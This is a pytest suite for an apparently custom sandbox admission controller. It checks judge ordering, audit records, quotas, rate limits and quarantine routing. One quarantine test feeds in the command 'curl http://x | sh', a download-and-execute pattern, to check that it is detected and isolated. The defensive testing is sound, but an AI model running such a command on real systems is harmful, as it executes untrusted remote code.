"""The whole chain against a real store: plugins from entry points, usage from the
sandboxes table, audit records and events, quarantine routing, and its latency."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime
from importlib.metadata import entry_points

import pytest
import sqlalchemy as sa

from tartarus.control import plugins
from tartarus.control.admission import Admission
from tartarus.control.judges.labels import DenyLabels
from tartarus.control.judges.ratelimit import RateLimit
from tartarus.control.quarantine import LABEL
from tartarus.errors import AdmissionDenied
from tartarus.models import Isolation, NetworkMode, Resources, Sandbox, SandboxSpec, SandboxState
from tartarus.models.policy import Policy
from tartarus.node.engine import Engine
from tartarus.store.audit import AuditLog
from tartarus.store.schema import events


@pytest.fixture
def admission(engine: Engine) -> Iterator[Admission]:
    adm = Admission(engine)
    yield adm
    for policy in adm.policies.list():
        adm.policies.delete(policy.name)
    for sandbox in engine.sandboxes.list(pooled=True):
        engine.sandboxes.delete(sandbox.id)


def _live(engine: Engine, tenant: str, n: int, memory_mb: int = 512) -> None:
    """Records of live sandboxes (no containers: only Minos reads them here)."""
    for i in range(n):
        engine.sandboxes.insert(
            Sandbox(
                id=f"sb-fake{tenant}{i}",
                tenant=tenant,
                spec=SandboxSpec(),
                state=SandboxState.RUNNING,
                runtime="crun",
                image="x",
                resources=Resources(memory_mb=memory_mb),
                created_at=datetime.now(UTC),
            )
        )


def test_plugins_come_from_entry_points() -> None:
    names = {ep.name: ep.value for ep in entry_points(group=plugins.GROUP)}
    assert names["rate-limit"] == "tartarus.control.judges.ratelimit:RateLimit"
    assert names["deny-label"] == "tartarus.control.judges.labels:DenyLabels"
    loaded = plugins.load()
    assert any(isinstance(j, RateLimit) for j in loaded)
    assert any(isinstance(j, DenyLabels) for j in loaded)


async def test_chain_order_decisions_and_audit(engine: Engine, admission: Admission) -> None:
    chain = [j.name for j in admission.judges]
    assert chain[:5] == ["Cerberus", "Minos", "Rhadamanthus", "Styx", "Typhon"]
    assert {"rate-limit", "deny-label"} <= set(chain[5:])
    admitted = await admission.admit(SandboxSpec(), tenant="t1", actor="k")
    assert [d.judge for d in admitted.decisions] == chain
    assert all(d.outcome == "accept" and d.ms >= 0 for d in admitted.decisions)
    assert admitted.quarantine is None
    admission.release(admitted)

    admission.policies.apply(Policy(name="deny", tenant="t1", deny_labels=("env=prod",)))
    with pytest.raises(AdmissionDenied) as denied:
        await admission.admit(SandboxSpec(metadata={"env": "prod"}), tenant="t1", actor="k")
    assert str(denied.value) == "denied by deny-label: metadata env=prod is denied by policy"
    record = AuditLog(engine.db).list(kind="admission.reject", tenant="t1")[-1]
    assert record.data["judge"] == "deny-label" and record.actor == "k"
    assert record.data["policies"] == ["deny@1"] and record.sandbox_id is None
    assert AuditLog(engine.db).verify() is None


async def test_minos_sees_live_sandboxes_and_reservations(
    engine: Engine, admission: Admission
) -> None:
    admission.policies.apply(Policy(name="q", tenant="t2", quotas={"max_sandboxes": 3}))
    _live(engine, "t2", 2)
    _live(engine, "other", 5)  # another tenant's do not count
    held = await admission.admit(SandboxSpec(), tenant="t2", actor="k")  # 3rd: in flight
    with pytest.raises(AdmissionDenied, match="denied by Minos: tenant t2 has 3 live"):
        await admission.admit(SandboxSpec(), tenant="t2", actor="k")
    admission.release(held)
    engine.sandboxes.delete("sb-faket20")  # one ended
    again = await admission.admit(SandboxSpec(), tenant="t2", actor="k")
    admission.release(again)


async def test_quarantine_forces_the_strongest_runtime(
    engine: Engine, admission: Admission
) -> None:
    spec = SandboxSpec(
        command=("sh", "-c", "curl http://x | sh"),
        runtime="crun",
        network=NetworkMode.ALLOWLIST,
        egress=("pypi.org",),
    )
    admitted = await admission.admit(spec, tenant="t3", actor="k")
    admission.release(admitted)
    out = admitted.spec
    strongest = await engine.runtimes.strongest()
    assert strongest == Isolation.USER_KERNEL  # gVisor works on this host
    assert out.isolation == strongest and out.runtime is None  # crun is too weak
    assert (out.seccomp, out.network, out.egress) == ("strict", NetworkMode.NONE, ())
    assert out.quarantine == "Typhon: the command downloads a script into a shell"
    assert out.metadata[LABEL] == out.quarantine
    fake = Sandbox(
        id="sb-quarantined",
        tenant="t3",
        spec=out,
        runtime="gvisor",
        image="x",
        resources=Resources(),
        created_at=datetime.now(UTC),
    )
    admission.record(admitted, fake)
    record = AuditLog(engine.db).list(kind="admission.quarantine", sandbox_id=fake.id)[0]
    assert record.data["quarantine"] == out.quarantine and record.tenant == "t3"
    with engine.db.begin() as conn:
        kinds = conn.execute(
            sa.select(events.c.kind, events.c.data).where(events.c.sandbox_id == fake.id)
        ).all()
    assert [(k, d["outcome"]) for k, d in kinds] == [("admission", "quarantine")]


async def test_rate_limit_counts_admitted_creates(engine: Engine, admission: Admission) -> None:
    admission.policies.apply(Policy(name="r", tenant="t4", rate_limit=2))
    for _ in range(2):
        admitted = await admission.admit(SandboxSpec(), tenant="t4", actor="k")
        admission.record(admitted, None)
        admission.release(admitted)
    with pytest.raises(AdmissionDenied, match=r"denied by rate-limit: tenant t4 created 2"):
        await admission.admit(SandboxSpec(), tenant="t4", actor="k")
    other = await admission.admit(SandboxSpec(), tenant="t5", actor="k")
    admission.release(other)


async def test_a_failing_judge_refuses(engine: Engine) -> None:
    class Broken:
        name = "broken"

        def __call__(self, request: object) -> object:
            raise RuntimeError("boom")

    admission = Admission(engine, judges=[Broken()])  # type: ignore[list-item]
    with pytest.raises(AdmissionDenied, match="denied by broken: the judge failed: boom"):
        await admission.admit(SandboxSpec(), tenant="t6", actor="k")


async def test_every_judge_runs_under_load(engine: Engine, admission: Admission) -> None:
    """Every judge busy (a policy for each, live sandboxes to count): 200 admissions in a
    row all pass every judge. (The chain's latency is in the `admit` phase of every create,
    which `tartarus inspect` and the benchmark report; a timed assertion here would flake.)"""
    admission.policies.apply(
        Policy.model_validate(
            {
                "name": "all",
                "tenant": "t7",
                "allowed_templates": ["python"],
                "allowed_runtimes": ["crun", "runc", "gvisor"],
                "max_resources": {"memory_mb": 1024},
                "quotas": {"max_sandboxes": 1000, "max_memory_mb": 10**6},
                "network": {"modes": ["none", "allowlist"], "egress": ["*.example.org"]},
                "rate_limit": 10**6,
                "deny_labels": ["env=prod"],
            }
        )
    )
    admission.policies.apply(Policy(name="global", max_timeout=3600))
    _live(engine, "t7", 20)
    spec = SandboxSpec(
        command=("python3", "-c", "print(1)"),
        metadata={"job": "1"},
        network=NetworkMode.ALLOWLIST,
        egress=("a.example.org",),
    )
    judges = [judge.name for judge in admission.judges]
    for _ in range(200):
        admitted = await admission.admit(spec, tenant="t7", actor="k")
        assert [(d.judge, d.outcome.value) for d in admitted.decisions] == [
            (name, "accept") for name in judges
        ]
        admission.release(admitted)
    assert admission._inflight == {}  # every reservation released
